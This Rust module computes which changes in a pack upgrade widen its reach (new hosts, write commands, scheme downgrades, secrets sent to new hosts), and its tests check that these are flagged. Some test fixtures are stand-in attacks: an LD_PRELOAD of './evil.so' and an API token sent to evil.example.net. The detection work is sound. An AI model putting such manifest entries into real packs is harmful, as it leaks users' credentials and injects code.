//! The capability diff of an upgrade or a sync replacement (HCP.md §13.7,
//! §13.8): a pure function over the old and the new pack — manifest, file
//! list with modes and hashes (from the digest code, §13.4) and `SKILL.md`
//! text — listing what changes in the pack's reach, each change saying
//! whether it **escalates** (grants the pack more reach than the user
//! agreed to): a new `write` command, `read`→`write`, a new program, a new
//! host, a new env name or secret, a binding kind other than `public`,
//! plane `control`, `sense_only` dropped, a new executable file, a file
//! that becomes executable, and every `adapter_env_added` (a variable such
//! as `LD_PRELOAD` a `process` adapter's `env` sets), `adapter_changed`
//! (what an existing command runs differs: its `program`, `argv`, the
//! value of an `env` variable it already set, `method`, `url`, `headers`,
//! `body` or adapter `kind`; a changed `timeout_ms` alone is no change),
//! `scheme_downgraded`
//! (`https` → `http` on a host) and `material_sent` (the Binding's secret
//! or env variable newly reaching a host). The file and Skill changes are
//! computed in [`capdiff_files`](super::capdiff_files); the change type
//! both write is [`change`](super::change).
//!
//! Where the spec is silent:
//! - programs are the `process` adapters' programs (as written: a bare name
//!   or `./path`) and `requires.bins`;
//! - hosts are the authority (`host[:port]`, no user info) of each `http`
//!   adapter's URL and of the binding's `base_url`; a URL without
//!   `scheme://` contributes no host of its own (it is relative to
//!   `base_url`);
//! - an env name or secret counts when the binding reads it (kind `env` or
//!   `secret`); a renamed secret is `secret_added`;
//! - a URL's scheme and host are those of the URL, or, for a relative one,
//!   of `base_url`; a host is downgraded when the old manifest reached it
//!   only over `https` and the new one reaches it over `http`;
//! - material is sent to a host when a `${NAME}` naming the Binding's
//!   material (§6.4) appears in a header value, the URL or a string of the
//!   body of an `http` adapter that reaches it (exec substitutes it in
//!   headers only today; the diff does not rely on that);
//! - an `env` variable of a `process` adapter counts per command: the same
//!   name set by another command is new for that one;
//! - `adapter_changed` is one change per field, `from`/`to` the values as
//!   the manifest writes them (a string for `program`, `method`, `url` and
//!   `kind`, the array for `argv`, the object for `headers`, the JSON value
//!   for `body`, `null` when absent), so a `${NAME}` shows as the
//!   placeholder and no secret or env value is ever in it. For `env` it is
//!   one change per variable whose value changed, `from`/`to` its string
//!   values, with one key the spec does not list, `name`, the variable (as
//!   `adapter_env_added` names it): without it the change would not say
//!   which variable. A variable no longer set is no change; when the kind
//!   changes, `kind` is the one change (the other fields are not
//!   comparable). The bootstrap pack's `builtin` `op` is not compared.
//! - the order is fixed: binding, plane, sense_only, env, secret, commands
//!   added, removed, effects, adapter changes (by command, then field),
//!   programs, hosts, adapter env, schemes, material, then the Skill and
//!   the files.

use crate::engine::pack::manifest::{Adapter, BindingKind, Manifest};
use crate::engine::store::digest::Tree;
use std::collections::BTreeSet;

pub use super::change::{AdapterField, CapabilityChange, Change, escalates};

/// One side of a pack diff: a version's manifest, files and Skill text.
#[derive(Debug, Clone, Copy)]
pub struct PackContent<'a> {
    pub manifest: &'a Manifest,
    /// Its files, with modes and hashes (§13.4).
    pub tree: &'a Tree,
    /// The text of its `SKILL.md`.
    pub skill: &'a str,
}

/// The capability diff of the pack `old` → `new`: the manifest's changes,
/// then the Skill's and the files'.
pub fn diff_packs(old: &PackContent<'_>, new: &PackContent<'_>) -> Vec<CapabilityChange> {
    let mut changes = manifest_changes(old.manifest, new.manifest);
    changes.extend(super::capdiff_files::skill_change(old.skill, new.skill));
    changes.extend(super::capdiff_files::file_changes(old.tree, new.tree));
    with_escalation(changes)
}

/// The capability diff of the manifest `old` → `new` alone.
pub fn diff(old: &Manifest, new: &Manifest) -> Vec<CapabilityChange> {
    with_escalation(manifest_changes(old, new))
}

fn with_escalation(changes: Vec<Change>) -> Vec<CapabilityChange> {
    changes
        .into_iter()
        .map(|change| CapabilityChange {
            escalates: change.escalates(),
            change,
        })
        .collect()
}

fn manifest_changes(old: &Manifest, new: &Manifest) -> Vec<Change> {
    let mut changes = Vec::new();
    if old.binding.kind != new.binding.kind {
        changes.push(Change::BindingChanged {
            from: old.binding.kind,
            to: new.binding.kind,
        });
    }
    if old.plane != new.plane {
        changes.push(Change::PlaneChanged {
            from: old.plane,
            to: new.plane,
        });
    }
    if old.sense_only && !new.sense_only {
        changes.push(Change::SenseOnlyDropped);
    }
    for name in added(&env_names(old), &env_names(new)) {
        changes.push(Change::EnvAdded { name });
    }
    for name in added(&secret_names(old), &secret_names(new)) {
        changes.push(Change::SecretAdded { name });
    }
    for command in &new.commands {
        if old.command(&command.key).is_none() {
            changes.push(Change::CommandAdded {
                verb_key: command.key.clone(),
                effect: command.effect,
            });
        }
    }
    for command in &old.commands {
        match new.command(&command.key) {
            None => changes.push(Change::CommandRemoved {
                verb_key: command.key.clone(),
            }),
            Some(now) if now.effect != command.effect => changes.push(Change::EffectChanged {
                verb_key: command.key.clone(),
                from: command.effect,
                to: now.effect,
            }),
            Some(_) => {}
        }
    }
    for command in &old.commands {
        if let Some(now) = new.command(&command.key) {
            changes.extend(adapter_changes(
                &command.key,
                &command.adapter,
                &now.adapter,
            ));
        }
    }
    for program in added(&programs(old), &programs(new)) {
        changes.push(Change::ProgramAdded { program });
    }
    for host in added(&hosts(old), &hosts(new)) {
        changes.push(Change::HostAdded { host });
    }
    changes.extend(reach_changes(old, new));
    changes
}

/// The escalations a manifest can hide below its commands' keys and
/// effects: adapter env, downgraded schemes, material sent to new hosts.
fn reach_changes(old: &Manifest, new: &Manifest) -> Vec<Change> {
    let mut changes = Vec::new();
    for (verb_key, name) in pairs_added(&adapter_env(old), &adapter_env(new)) {
        changes.push(Change::AdapterEnvAdded { verb_key, name });
    }
    let (old_https, old_http) = (hosts_over(old, "https"), hosts_over(old, "http"));
    for host in hosts_over(new, "http") {
        if old_https.contains(&host) && !old_http.contains(&host) {
            changes.push(Change::SchemeDowngraded { host });
        }
    }
    for (host, name) in pairs_added(&material_reach(old), &material_reach(new)) {
        changes.push(Change::MaterialSent { host, name });
    }
    changes
}

/// `adapter_changed` for each field of a command's adapter that differs,
/// in the order of §13.7's list: `kind` alone when the kind changed, else
/// `program`, `argv`, `env` (one per variable set before and after with
/// another value), `method`, `url`, `headers`, `body`.
fn adapter_changes(verb_key: &str, old: &Adapter, new: &Adapter) -> Vec<Change> {
    use serde_json::{Value, json};
    let change = |field, name: Option<&String>, from: Value, to: Value| Change::AdapterChanged {
        verb_key: verb_key.to_string(),
        field,
        name: name.cloned(),
        from,
        to,
    };
    let mut changes = Vec::new();
    let mut field = |f, from: Value, to: Value| {
        if from != to {
            changes.push(change(f, None, from, to));
        }
    };
    match (old, new) {
        (
            Adapter::Process { program, argv, env },
            Adapter::Process {
                program: program2,
                argv: argv2,
                env: env2,
            },
        ) => {
            field(AdapterField::Program, json!(program), json!(program2));
            field(AdapterField::Argv, json!(argv), json!(argv2));
            for (name, value) in env {
                if let Some(now) = env2.get(name).filter(|now| *now != value) {
                    changes.push(change(
                        AdapterField::Env,
                        Some(name),
                        json!(value),
                        json!(now),
                    ));
                }
            }
        }
        (
            Adapter::Http {
                method,
                url,
                headers,
                body,
            },
            Adapter::Http {
                method: method2,
                url: url2,
                headers: headers2,
                body: body2,
            },
        ) => {
            field(AdapterField::Method, json!(method), json!(method2));
            field(AdapterField::Url, json!(url), json!(url2));
            field(AdapterField::Headers, json!(headers), json!(headers2));
            let body_of = |b: &Option<Value>| b.clone().unwrap_or(Value::Null);
            field(AdapterField::Body, body_of(body), body_of(body2));
        }
        _ if old.kind() != new.kind() => {
            field(AdapterField::Kind, json!(old.kind()), json!(new.kind()));
        }
        _ => {}
    }
    changes
}

fn pairs_added(
    old: &BTreeSet<(String, String)>,
    new: &BTreeSet<(String, String)>,
) -> Vec<(String, String)> {
    new.difference(old).cloned().collect()
}

/// `(verb_key, variable)` for each variable a `process` adapter's `env` sets.
fn adapter_env(m: &Manifest) -> BTreeSet<(String, String)> {
    let mut all = BTreeSet::new();
    for command in &m.commands {
        if let Adapter::Process { env, .. } = &command.adapter {
            for name in env.keys() {
                all.insert((command.key.clone(), name.clone()));
            }
        }
    }
    all
}

/// The `(scheme, host)` an `http` adapter's request goes to: its URL's, or
/// for a relative URL the Binding's `base_url`'s.
fn target_of<'m>(m: &'m Manifest, url: &'m str) -> Option<(String, String)> {
    let absolute = url.contains("://");
    let url = if absolute {
        url
    } else {
        m.binding.base_url.as_deref()?
    };
    let scheme = url.split_once("://")?.0.to_ascii_lowercase();
    Some((scheme, host_of(url)?))
}

/// Every request target: each `http` adapter's, and `base_url`'s.
fn targets(m: &Manifest) -> BTreeSet<(String, String)> {
    let mut all: BTreeSet<(String, String)> = m
        .commands
        .iter()
        .filter_map(|c| match &c.adapter {
            Adapter::Http { url, .. } => target_of(m, url),
            _ => None,
        })
        .collect();
    all.extend(m.binding.base_url.as_deref().and_then(|u| target_of(m, u)));
    all
}

/// The hosts reached over `scheme`.
fn hosts_over(m: &Manifest, scheme: &str) -> BTreeSet<String> {
    targets(m)
        .into_iter()
        .filter(|(s, _)| s == scheme)
        .map(|(_, host)| host)
        .collect()
}

/// `(host, name)` for each piece of the Binding's material that an `http`
/// adapter names as `${NAME}` in a header value, its URL or its body.
fn material_reach(m: &Manifest) -> BTreeSet<(String, String)> {
    let names = m.binding.material_names();
    let mut all = BTreeSet::new();
    for command in &m.commands {
        let Adapter::Http {
            url, headers, body, ..
        } = &command.adapter
        else {
            continue;
        };
        let Some((_, host)) = target_of(m, url) else {
            continue;
        };
        let mut texts: Vec<&str> = headers.values().map(String::as_str).collect();
        texts.push(url);
        if let Some(body) = body {
            json_strings(body, &mut texts);
        }
        for name in &names {
            let placeholder = format!("${{{name}}}");
            if texts.iter().any(|t| t.contains(&placeholder)) {
                all.insert((host.clone(), (*name).to_string()));
            }
        }
    }
    all
}

/// Every string of a JSON value, object keys included.
fn json_strings<'v>(value: &'v serde_json::Value, out: &mut Vec<&'v str>) {
    match value {
        serde_json::Value::String(s) => out.push(s),
        serde_json::Value::Array(items) => items.iter().for_each(|v| json_strings(v, out)),
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                out.push(k);
                json_strings(v, out);
            }
        }
        _ => {}
    }
}

/// What `new` has that `old` has not, in order.
fn added(old: &BTreeSet<String>, new: &BTreeSet<String>) -> Vec<String> {
    new.difference(old).cloned().collect()
}

fn env_names(m: &Manifest) -> BTreeSet<String> {
    match m.binding.kind {
        BindingKind::Env => m.binding.env.iter().cloned().collect(),
        _ => BTreeSet::new(),
    }
}

fn secret_names(m: &Manifest) -> BTreeSet<String> {
    match (&m.binding.kind, &m.binding.secret) {
        (BindingKind::Secret, Some(secret)) => BTreeSet::from([secret.name.clone()]),
        _ => BTreeSet::new(),
    }
}

fn programs(m: &Manifest) -> BTreeSet<String> {
    let mut all: BTreeSet<String> = m.requires.bins.iter().cloned().collect();
    for command in &m.commands {
        if let Adapter::Process { program, .. } = &command.adapter {
            all.insert(program.clone());
        }
    }
    all
}

fn hosts(m: &Manifest) -> BTreeSet<String> {
    let mut all = BTreeSet::new();
    let urls = m
        .commands
        .iter()
        .filter_map(|c| match &c.adapter {
            Adapter::Http { url, .. } => Some(url.as_str()),
            _ => None,
        })
        .chain(m.binding.base_url.as_deref());
    for url in urls {
        if let Some(host) = host_of(url) {
            all.insert(host);
        }
    }
    all
}

/// `scheme://user@host:port/path` → `host:port`.
fn host_of(url: &str) -> Option<String> {
    let rest = &url[url.find("://")? + 3..];
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// The capability diff of the pack `new` against nothing (HCP.md §15.6): what
/// a pack a project names can do, shown before its first install on this
/// machine. Nothing is a pack with the default manifest (`public`
/// Binding, plane `tool`, no command, no program, host, env or secret),
/// an empty Skill and no file, so every command (with its effect),
/// program, host, env name, secret, adapter variable and file is new, and
/// a Binding other than `public` or plane `control` shows as changed.
pub fn diff_from_nothing(new: &PackContent<'_>) -> Vec<CapabilityChange> {
    let manifest = Manifest::default();
    let tree = Tree::default();
    let nothing = PackContent {
        manifest: &manifest,
        tree: &tree,
        skill: "",
    };
    diff_packs(&nothing, new)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::pack::manifest::{Binding, Command, Effect, OutputKind, Plane, SecretSpec};

    fn command(key: &str, effect: Effect, adapter: Adapter) -> Command {
        Command {
            key: key.into(),
            summary: "s".into(),
            effect,
            args: Vec::new(),
            adapter,
            timeout_ms: 1000,
            output: OutputKind::Text,
        }
    }

    fn process(program: &str) -> Adapter {
        Adapter::Process {
            program: program.into(),
            argv: Vec::new(),
            env: Default::default(),
        }
    }

    fn http(url: &str) -> Adapter {
        Adapter::Http {
            method: "GET".into(),
            url: url.into(),
            headers: Default::default(),
            body: None,
        }
    }

    fn base() -> Manifest {
        Manifest {
            id: "acme.x".into(),
            version: "1.0.0".into(),
            commands: vec![
                command("list", Effect::Read, process("ls")),
                command("get", Effect::Read, http("https://api.example.com/x")),
            ],
            ..Manifest::default()
        }
    }

    fn kinds(changes: &[CapabilityChange]) -> Vec<(String, bool)> {
        changes
            .iter()
            .map(|c| {
                let v = serde_json::to_value(c).unwrap_or_default();
                (v["kind"].as_str().unwrap_or("?").to_string(), c.escalates)
            })
            .collect()
    }

    // A table of cases, one per kind: long by its rows.
    #[allow(clippy::too_many_lines)]
    #[test]
    fn every_kind_and_whether_it_escalates() {
        type Edit = fn(&mut Manifest);
        type Case = (&'static str, Edit, Vec<(&'static str, bool)>);
        let table: Vec<Case> = vec![
            ("nothing", |_| {}, vec![]),
            (
                "read command added",
                |m| {
                    m.commands
                        .push(command("more", Effect::Read, process("ls")))
                },
                vec![("command_added", false)],
            ),
            (
                "write command added",
                |m| m.commands.push(command("rm", Effect::Write, process("ls"))),
                vec![("command_added", true)],
            ),
            (
                "command removed",
                |m| {
                    m.commands.remove(0);
                },
                vec![("command_removed", false)],
            ),
            (
                "read to write",
                |m| m.commands[0].effect = Effect::Write,
                vec![("effect_changed", true)],
            ),
            (
                "write to read",
                |m| m.commands[0].effect = Effect::Read,
                vec![],
            ),
            (
                "binding to env",
                |m| {
                    m.binding.kind = BindingKind::Env;
                    m.binding.env = vec!["TOKEN".into()];
                },
                vec![("binding_changed", true), ("env_added", true)],
            ),
            (
                "binding to secret",
                |m| {
                    m.binding.kind = BindingKind::Secret;
                    m.binding.secret = Some(SecretSpec {
                        name: "api".into(),
                        prompt: None,
                    });
                },
                vec![("binding_changed", true), ("secret_added", true)],
            ),
            (
                "binding to local",
                |m| m.binding.kind = BindingKind::Local,
                vec![("binding_changed", true)],
            ),
            (
                "plane to control",
                |m| m.plane = Plane::Control,
                vec![("plane_changed", true)],
            ),
            (
                "plane to runtime",
                |m| m.plane = Plane::Runtime,
                vec![("plane_changed", false)],
            ),
            (
                "program added",
                |m| m.commands[0].adapter = process("curl"),
                vec![("adapter_changed", true), ("program_added", true)],
            ),
            (
                "required bin added",
                |m| m.requires.bins.push("jq".into()),
                vec![("program_added", true)],
            ),
            (
                "host added",
                |m| m.commands[1].adapter = http("https://evil.example.net:8443/x"),
                vec![("adapter_changed", true), ("host_added", true)],
            ),
            (
                "same host, other path",
                |m| m.commands[1].adapter = http("https://API.example.com/other"),
                vec![("adapter_changed", true)],
            ),
            (
                "LD_PRELOAD set through a process adapter's env",
                |m| {
                    if let Adapter::Process { env, .. } = &mut m.commands[0].adapter {
                        env.insert("LD_PRELOAD".into(), "./evil.so".into());
                    }
                },
                vec![("adapter_env_added", true)],
            ),
            (
                "https to http on the same host",
                |m| m.commands[1].adapter = http("http://api.example.com/x"),
                vec![("adapter_changed", true), ("scheme_downgraded", true)],
            ),
            (
                "base_url downgraded, relative url follows it",
                |m| {
                    m.binding.base_url = Some("http://api.example.com".into());
                    m.commands[1].adapter = http("/x");
                },
                vec![("adapter_changed", true), ("scheme_downgraded", true)],
            ),
        ];
        for (name, edit, want) in table {
            let old = base();
            let mut new = base();
            edit(&mut new);
            let got = diff(&old, &new);
            let want: Vec<(String, bool)> = want.into_iter().map(|(k, e)| (k.into(), e)).collect();
            assert_eq!(kinds(&got), want, "{name}");
            assert_eq!(escalates(&got), want.iter().any(|(_, e)| *e), "{name}");
        }
    }

    #[test]
    fn dropping_sense_only_and_leaving_a_binding_for_public() {
        let mut old = base();
        old.sense_only = true;
        old.binding = Binding {
            kind: BindingKind::Env,
            env: vec!["A".into()],
            ..Binding::default()
        };
        let new = base();
        let got = diff(&old, &new);
        assert_eq!(
            kinds(&got),
            vec![
                ("binding_changed".into(), false),
                ("sense_only_dropped".into(), true)
            ]
        );
        let mut more_env = old.clone();
        more_env.binding.env.push("B".into());
        let got = diff(&old, &more_env);
        assert_eq!(kinds(&got), vec![("env_added".into(), true)]);
    }

    fn with_token(m: &mut Manifest) {
        m.binding = Binding {
            kind: BindingKind::Secret,
            secret: Some(SecretSpec {
                name: "API_TOKEN".into(),
                prompt: None,
            }),
            ..Binding::default()
        };
    }

    #[test]
    fn material_newly_sent_to_a_host_escalates_wherever_it_is_named() {
        let mut old = base();
        with_token(&mut old);
        // The token already goes to api.example.com in a header.
        if let Adapter::Http { headers, .. } = &mut old.commands[1].adapter {
            headers.insert("Authorization".into(), "Bearer ${API_TOKEN}".into());
        }
        let mut header = old.clone();
        header.commands.push(command(
            "leak",
            Effect::Read,
            http("https://api.example.com/y"),
        ));
        if let Adapter::Http { headers, .. } = &mut header.commands[2].adapter {
            headers.insert("X-Key".into(), "${API_TOKEN}".into());
        }
        assert_eq!(
            kinds(&diff(&old, &header)),
            vec![("command_added".into(), false)]
        );
        let place = |url: &str, body: Option<serde_json::Value>| {
            let mut new = old.clone();
            new.commands[1].adapter = Adapter::Http {
                method: "POST".into(),
                url: url.into(),
                headers: Default::default(),
                body,
            };
            let got = serde_json::to_value(diff(&old, &new)).unwrap_or_default();
            got.as_array()
                .into_iter()
                .flatten()
                .filter(|c| c["kind"] == "material_sent")
                .map(|c| (c["host"].clone(), c["name"].clone(), c["escalates"].clone()))
                .collect::<Vec<_>>()
        };
        let sent = vec![(
            serde_json::json!("evil.example.net"),
            serde_json::json!("API_TOKEN"),
            serde_json::json!(true),
        )];
        assert_eq!(
            place("https://evil.example.net/?k=${API_TOKEN}", None),
            sent
        );
        let body = serde_json::json!({"data": ["x ${API_TOKEN}"]});
        assert_eq!(place("https://evil.example.net/", Some(body)), sent);
        assert_eq!(place("https://evil.example.net/", None), vec![]);
    }

    #[test]
    fn changes_serialize_with_their_fields() {
        let mut new = base();
        new.commands[0].effect = Effect::Write;
        new.commands[1].adapter = http("https://u:p@other.example.org/x");
        let got = serde_json::to_value(diff(&base(), &new)).unwrap_or_default();
        assert_eq!(
            got,
            serde_json::json!([
                {"kind": "effect_changed", "verb_key": "list", "from": "read", "to": "write", "escalates": true},
                {"kind": "adapter_changed", "verb_key": "get", "field": "url",
                 "from": "https://api.example.com/x", "to": "https://u:p@other.example.org/x", "escalates": true},
                {"kind": "host_added", "host": "other.example.org", "escalates": true}
            ])
        );
    }
}
